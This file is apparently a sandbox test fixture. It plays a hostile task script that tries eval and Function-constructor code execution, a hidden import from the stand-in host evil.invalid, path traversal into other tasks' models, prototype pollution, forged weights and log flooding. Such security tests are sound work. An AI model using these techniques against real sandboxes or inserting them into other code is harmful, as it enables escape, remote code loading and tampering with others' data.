// @ts-nocheck: an attacker’s script has no types.
/** What the script of a task may try that wants out of its realm, or at what is not its own: `input` says which. */
export async function run(context) {
  return attempts[context.trigger.input](context)
}

const later = (ms) => new Promise((done) => setTimeout(done, ms))

/** How it ended, in a word. */
async function outcome(attempt) {
  try {
    return (await attempt()) ?? 'nothing'
  } catch (error) {
    return error?.code ?? error?.name ?? 'refused'
  }
}

async function outcomes(all) {
  const told = {}
  for (const [name, attempt] of Object.entries(all)) told[name] = await outcome(attempt)
  return told
}

/** All names that are there, up the chain of prototypes. */
function globals() {
  const names = new Set()
  const global = globalThis
  for (let on = global; on && on !== Object.prototype; on = Object.getPrototypeOf(on))
    for (const name of Reflect.ownKeys(on)) {
      const { value, get } = Reflect.getOwnPropertyDescriptor(on, name)
      if (get || value !== undefined) names.add(String(name))
    }
  return [...names].sort()
}

/** What has `eval`'s power. */
const code = () =>
  outcomes({
    // biome-ignore lint/security/noGlobalEval: that is what is tried
    eval: () => String(globalThis.eval('1')),
    // biome-ignore lint/security/noGlobalEval: as above
    hidden: () => String(Reflect.apply(globalThis.eval, null, [`im${'port'}("https://evil.invalid/x.js")`])),
    Function: () => new Function('return "ran"')(),
    constructor: () => (() => {}).constructor('return "ran"')(),
    asynchronous: () => (async () => {}).constructor('return "ran"')(),
    generator: () => function* () {}.constructor('yield "ran"')().next().value,
    reflected: () => Reflect.construct(Function, ['return "ran"'])(),
    async timer() {
      setTimeout('globalThis.ran = "ran"')
      await later(50)
      return globalThis.ran
    },
    async stack() {
      Error.prepareStackTrace = (_, sites) => sites.map((site) => site.getThis?.() ?? site.getFunction?.())
      const found = new Error('where').stack
      Error.prepareStackTrace = undefined
      return Array.isArray(found) && found.some((one) => one?.fetch || one?.postMessage)
        ? 'reached'
        : 'nothing'
    },
  })

/** Speaks to whoever holds the other end of the port. */
const messages = () =>
  outcomes({
    async post() {
      const heard = []
      addEventListener('message', (event) => heard.push(event))
      dispatchEvent(new MessageEvent('message', { data: { type: 'done', id: 1, output: {} } }))
      await later(100)
      const ends = heard.flatMap((event) => [
        event.target,
        event.currentTarget,
        event.source,
        ...(event.ports ?? []),
      ])
      return ends.some((end) => typeof end?.postMessage === 'function') ? 'reached' : 'nothing'
    },
    close: () => (typeof close === 'function' ? 'reached' : 'nothing'),
  })

const weights = (values) => ({ w: { shape: [values.length], data: Float32Array.from(values) } })

/** Asks for what its manifest does not name. */
const others = ({ samples, models, log }) =>
  outcomes({
    set: () => samples.read('local-training').then(() => 'read'),
    foreign: () => samples.score([{ id: 'someone-else’s', score: 1, keep: true }]) ?? 'scored',
    used: () => samples.use(['someone-else’s']) ?? 'used',
    ranking: () => models.read('data/ranking').then(() => 'read'),
    task: () => models.read('train/ranking').then(() => 'read'),
    initial: () => models.initial('data/ranking').then(() => 'read'),
    write: () => models.write('data/ranking', weights([1])).then(() => 'written'),
    folder: () => models.write('../data/ranking', weights([1])).then(() => 'written'),
    fold: () => models.fold('data/ranking') ?? 'folded',
    infinite: () => models.write('own', weights([1, Number.POSITIVE_INFINITY])).then(() => 'written'),
    huge: () => models.write('own', weights(new Float32Array(100_000))).then(() => 'written'),
    report: () => log.report('flood', { bytes: Number.NaN }) ?? 'reported',
    flood() {
      for (let i = 0; i < 1000; i++) log.report('flood', { i })
      return 'reported'
    },
  })

const attempts = {
  globals,
  code,
  messages,
  others,
  /** More than a result may have. */
  result: () => 'x'.repeat(1_000_000),
  /** Never comes to an end. */
  async spin() {
    for (;;) await later(1)
  },
  /** Bends what everything in its realm is made of, and itself goes well. */
  pollute() {
    Object.prototype.polluted = 'everything'
    Array.prototype.map = () => ['polluted']
    Promise.prototype.finally = () => 'polluted'
    Function.prototype.call = () => 'polluted'
    return 'polluted'
  },
  /** Has the trainer tell of a model that it may not write. */
  forge() {
    const honest = Object.fromEntries
    const forged = { shape: [4], data: Float32Array.of(6, 6, 6, 6) }
    Object.fromEntries = (entries) => {
      const made = honest(entries)
      return Object.keys(made).length === 0 ? { 'data/ranking': { w: forged } } : made
    }
    return 'forged'
  },
  /** Nothing bad. */
  greet: () => 'good day',
}
